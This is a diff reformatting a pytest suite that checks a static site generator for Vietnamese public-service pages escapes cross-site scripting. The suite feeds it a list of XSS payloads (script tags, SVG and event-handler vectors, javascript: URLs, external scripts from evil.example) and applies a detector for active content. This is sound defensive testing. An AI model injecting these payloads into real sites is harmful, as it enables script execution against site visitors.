@@ -7,6 +7,7 @@ entities in attributes): the only scripts are the site's own files under
 assets/, there are no event handlers, no style or frame or object elements,
 no javascript:/vbscript:/data: URLs, and template syntax stays literal text.
 """
+
 from __future__ import annotations
 
 import json
@@ -16,13 +17,12 @@ from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
-
 from sitefactory import BuildResult, make_site
 
 MARK = "alert(1337)"
 BODY_ATTACKS = [
     f"<script>{MARK}</script>",
-    f"<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
+    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
     f"<scr<script>ipt>{MARK}</script>",
     "<style>body{display:none} @import 'https://evil.example/x.css';</style>",
     f'<iframe src="https://evil.example"></iframe> <iframe srcdoc="<script>{MARK}</script>"></iframe>',
@@ -40,7 +40,7 @@ BODY_ATTACKS = [
     '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"> ![d3](data:image/svg+xml;base64,PHN2Zz4=)',
     f'<svg><script>{MARK}</script></svg> <svg onload="{MARK}"></svg>',
     f'<svg><a xlink:href="javascript:{MARK}"><text>s1</text></a><animate onbegin={MARK} attributeName=x /></svg>',
-    f"<math><mtext><script>{MARK}</script></mtext></math> <math href=\"javascript:{MARK}\">m</math>",
+    f'<math><mtext><script>{MARK}</script></mtext></math> <math href="javascript:{MARK}">m</math>',
     f'<details open ontoggle={MARK}>t</details> <body onload={MARK}> <div onmouseover="{MARK}">o</div>',
     f'<p style="background:url(javascript:{MARK})" onclick="{MARK}">st</p>',
     f'<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=javascript:{MARK}">',
@@ -74,27 +74,62 @@ def quoted(value: str) -> str:
 
 
 def front(**fields: object) -> str:
-    return "---\n" + "".join(f"{k}: {quoted(v) if isinstance(v, str) else json.dumps(v, ensure_ascii=False)}\n"
-                             for k, v in fields.items()) + "---\n"
+    return (
+        "---\n"
+        + "".join(
+            f"{k}: {quoted(v) if isinstance(v, str) else json.dumps(v, ensure_ascii=False)}\n"
+            for k, v in fields.items()
+        )
+        + "---\n"
+    )
 
 
 def attack_site(root: Path):  # type: ignore[no-untyped-def]
     t = TEXT_ATTACKS
     files = {
-        "content/plans/kh-1.md": front(title=t[0], number=f"1/KH-UBND {t[1]}", issued="2024-01-01", issuer=t[2],
-                                       province="ha-tinh", summary=t[4], tags=[t[3], t[5]]) + BODY,
-        "content/articles/tin.md": front(title=t[1], date="2024-05-01", province="ha-tinh", summary=t[0],
-                                         tags=t[:4], author=t[2], plan="kh-1",
-                                         source={"name": t[3], "url": f"https://a.vn/?q=\"><script>{MARK}"}) + BODY,
+        "content/plans/kh-1.md": front(
+            title=t[0],
+            number=f"1/KH-UBND {t[1]}",
+            issued="2024-01-01",
+            issuer=t[2],
+            province="ha-tinh",
+            summary=t[4],
+            tags=[t[3], t[5]],
+        )
+        + BODY,
+        "content/articles/tin.md": front(
+            title=t[1],
+            date="2024-05-01",
+            province="ha-tinh",
+            summary=t[0],
+            tags=t[:4],
+            author=t[2],
+            plan="kh-1",
+            source={"name": t[3], "url": f'https://a.vn/?q="><script>{MARK}'},
+        )
+        + BODY,
         "content/articles/tin-2.md": front(title=t[4], date="2024-05-02", province="ha-tinh", summary=t[5]) + BODY,
-        "content/services/dv.md": front(title=t[3], level=4, field=t[0], agency=t[1],
-                                        portal_url=f"https://dichvucong.gov.vn/p?x=\"onmouseover=\"{MARK}\"",
-                                        code="1.001234", processing_time={"trực tuyến": t[2]}, fee=t[4],
-                                        documents=t, result=t[1], legal_basis=[t[0]]) + BODY,
+        "content/services/dv.md": front(
+            title=t[3],
+            level=4,
+            field=t[0],
+            agency=t[1],
+            portal_url=f'https://dichvucong.gov.vn/p?x="onmouseover="{MARK}"',
+            code="1.001234",
+            processing_time={"trực tuyến": t[2]},
+            fee=t[4],
+            documents=t,
+            result=t[1],
+            legal_basis=[t[0]],
+        )
+        + BODY,
         "content/pages/gioi-thieu.md": front(title=t[2], summary=t[1]) + BODY,
     }
-    return make_site(root, files, config={"title": f"CCHC {t[0]}", "description": t[4],
-                                         "glossary": {"XSS": f"<script>{MARK}</script>"}})
+    return make_site(
+        root,
+        files,
+        config={"title": f"CCHC {t[0]}", "description": t[4], "glossary": {"XSS": f"<script>{MARK}</script>"}},
+    )
 
 
 @pytest.fixture(scope="module")
@@ -130,19 +165,49 @@ class Page(HTMLParser):
         (self.script_text if self._in else self.text).append(data)
 
 
-URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "srcset", "background",
-             "cite", "longdesc", "srcdoc", "content"}
-ACTIVE_TAGS = {"style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "math",
-               "template", "noscript", "textarea", "video", "audio", "details"}
+URL_ATTRS = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "xlink:href",
+    "poster",
+    "data",
+    "srcset",
+    "background",
+    "cite",
+    "longdesc",
+    "srcdoc",
+    "content",
+}
+ACTIVE_TAGS = {
+    "style",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "base",
+    "math",
+    "template",
+    "noscript",
+    "textarea",
+    "video",
+    "audio",
+    "details",
+}
 OWN = {("tim-kiem/index.html", "noscript")}  # the search page's own "needs JavaScript" note
 SITE_SCRIPTS = re.compile(r"^(\.\./)*assets/(app|search|search-data|vendor/minisearch\.min)\.[0-9a-f]+\.js$")
 
 
 def scheme(url: str) -> str:
     """The scheme a browser would see: tabs, newlines and leading controls/spaces removed."""
-    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
-                                                   "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d"
-                                                   "\x1e\x1f ")
+    cleaned = re.sub(r"[\t\n\r]", "", url).lstrip(
+        "\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f"
+        "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d"
+        "\x1e\x1f "
+    )
     match = re.match(r"^([a-zA-Z][a-zA-Z0-9+.-]*):", cleaned)
     return match.group(1).lower() if match else ""
 
@@ -162,8 +227,11 @@ def active_content(path: str, markup: str) -> list[str]:
             found.append(f"meta {names}")
         elif tag == "svg" and not path.startswith("dich-vu-cong/"):  # the QR code of a service page
             found.append("<svg> outside a service page")
-        elif tag == "link" and names.get("href", "").startswith(("http:", "https:", "//")) \
-                and names.get("rel") != "canonical":
+        elif (
+            tag == "link"
+            and names.get("href", "").startswith(("http:", "https:", "//"))
+            and names.get("rel") != "canonical"
+        ):
             found.append(f"link {names}")
         for name, value in attrs:
             if name.startswith("on"):
@@ -171,9 +239,12 @@ def active_content(path: str, markup: str) -> list[str]:
             if name == "style":
                 found.append(f"<{tag} style>")
             if name in URL_ATTRS and value:
-                for url in (value.split(",") if name == "srcset" else [value]):
-                    if scheme(url.strip()) in ("javascript", "vbscript", "data", "livescript", "mocha") \
-                            and not (tag == "link" and value == "data:,") and name != "content":
+                for url in value.split(",") if name == "srcset" else [value]:
+                    if (
+                        scheme(url.strip()) in ("javascript", "vbscript", "data", "livescript", "mocha")
+                        and not (tag == "link" and value == "data:,")
+                        and name != "content"
+                    ):
                         found.append(f"<{tag} {name}={value[:40]!r}>")
                 if name == "content" and re.search(r"url\s*=\s*javascript", value, re.I):
                     found.append(f"<{tag} content={value[:40]!r}>")
@@ -187,20 +258,32 @@ def html_pages(result: BuildResult) -> dict[str, str]:
 
 
 def test_attack_site_has_the_pages_under_test(built: BuildResult) -> None:
-    for page in ("tin-tuc/tin/index.html", "tin-tuc/tin-2/index.html", "ke-hoach/kh-1/index.html",
-                 "dich-vu-cong/dv/index.html", "gioi-thieu/index.html", "index.html", "tin-tuc/index.html",
-                 "tinh/ha-tinh/index.html", "dich-vu-cong/muc-do-4/index.html", "tim-kiem/index.html"):
+    for page in (
+        "tin-tuc/tin/index.html",
+        "tin-tuc/tin-2/index.html",
+        "ke-hoach/kh-1/index.html",
+        "dich-vu-cong/dv/index.html",
+        "gioi-thieu/index.html",
+        "index.html",
+        "tin-tuc/index.html",
+        "tinh/ha-tinh/index.html",
+        "dich-vu-cong/muc-do-4/index.html",
+        "tim-kiem/index.html",
+    ):
         assert page in built.files, page
 
 
 def test_no_active_content_in_any_page(built: BuildResult) -> None:
-    problems = {path: found for path, markup in sorted(html_pages(built).items())
-                if (found := active_content(path, markup))}
+    problems = {
+        path: found for path, markup in sorted(html_pages(built).items()) if (found := active_content(path, markup))
+    }
     assert problems == {}
 
 
-@pytest.mark.parametrize("page", ["tin-tuc/tin/index.html", "ke-hoach/kh-1/index.html",
-                                  "dich-vu-cong/dv/index.html", "gioi-thieu/index.html"])
+@pytest.mark.parametrize(
+    "page",
+    ["tin-tuc/tin/index.html", "ke-hoach/kh-1/index.html", "dich-vu-cong/dv/index.html", "gioi-thieu/index.html"],
+)
 def test_body_text_survives_as_text_between_the_attacks(built: BuildResult, page: str) -> None:
     text = " ".join(Page(built.files[page].decode("utf-8")).text)
     assert "Mở đầu." in text and "Kết thúc." in text
@@ -208,8 +291,16 @@ def test_body_text_survives_as_text_between_the_attacks(built: BuildResult, page
     assert f"<script>{MARK}</script>" in text
 
 
-@pytest.mark.parametrize("page", ["tin-tuc/tin/index.html", "tin-tuc/tin-2/index.html", "ke-hoach/kh-1/index.html",
-                                  "dich-vu-cong/dv/index.html", "gioi-thieu/index.html"])
+@pytest.mark.parametrize(
+    "page",
+    [
+        "tin-tuc/tin/index.html",
+        "tin-tuc/tin-2/index.html",
+        "ke-hoach/kh-1/index.html",
+        "dich-vu-cong/dv/index.html",
+        "gioi-thieu/index.html",
+    ],
+)
 def test_template_syntax_is_never_evaluated(built: BuildResult, page: str) -> None:
     text = " ".join(Page(built.files[page].decode("utf-8")).text)
     assert "{{ 7*7 }}" in text
@@ -222,7 +313,7 @@ def test_front_matter_text_is_escaped_not_dropped(built: BuildResult) -> None:
     article = Page(built.files["tin-tuc/tin/index.html"].decode("utf-8"))
     assert TEXT_ATTACKS[1] in " ".join(article.text)  # the title, as text
     service = built.files["dich-vu-cong/dv/index.html"].decode("utf-8")
-    title = service[service.index("<title>") + 7:service.index("</title>")]
+    title = service[service.index("<title>") + 7 : service.index("</title>")]
     assert "<" not in title and TEXT_ATTACKS[3] in " ".join(Page(title).text)
     for page in ("tin-tuc/tin/index.html", "ke-hoach/kh-1/index.html", "dich-vu-cong/dv/index.html"):
         text = " ".join(Page(built.files[page].decode("utf-8")).text)
@@ -255,7 +346,7 @@ def test_search_data_is_plain_json(built: BuildResult) -> None:
     text = built.files[path].decode("utf-8")
     prefix = "window.CCHC_SEARCH_DATA = "
     assert text.startswith(prefix)
-    data = json.loads(text[len(prefix):].rstrip().rstrip(";"))
+    data = json.loads(text[len(prefix) :].rstrip().rstrip(";"))
     assert TEXT_ATTACKS[1] in json.dumps(data, ensure_ascii=False)  # kept as a string, not markup
 
 
@@ -266,7 +357,9 @@ def test_sitemap_and_robots_are_not_html(built: BuildResult) -> None:
 
 def test_the_checker_sees_the_raw_attacks() -> None:
     """The checks above are not vacuous: unsanitised, nearly every HTML attack is flagged."""
-    html_attacks = [a for a in BODY_ATTACKS if a.lstrip().startswith("<") and not a.startswith(("<!--", "<javascript", "<scr<"))]
+    html_attacks = [
+        a for a in BODY_ATTACKS if a.lstrip().startswith("<") and not a.startswith(("<!--", "<javascript", "<scr<"))
+    ]
     # (`<scr<script>ipt>` runs nothing as written; it is there for sanitisers that strip naively)
     flagged = [a for a in html_attacks if active_content("tin-tuc/x/index.html", a)]
     assert len(flagged) == len(html_attacks), set(html_attacks) - set(flagged)
